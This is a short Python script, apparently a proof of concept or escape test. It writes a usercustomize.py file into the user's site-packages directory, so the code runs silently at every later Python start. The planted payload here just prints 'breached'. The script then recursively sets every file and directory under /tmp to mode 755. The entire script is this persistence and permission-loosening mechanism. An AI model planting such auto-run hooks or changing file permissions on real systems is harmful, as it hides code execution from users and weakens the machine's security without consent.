import os, site
place = site.getusersitepackages()
os.makedirs(place)
open(f"{place}/usercustomize.py", "w").write("print('breached')")
for top, directories, files in os.walk("/tmp"):
    for name in directories + files:
        os.chmod(os.path.join(top, name), 0o755)
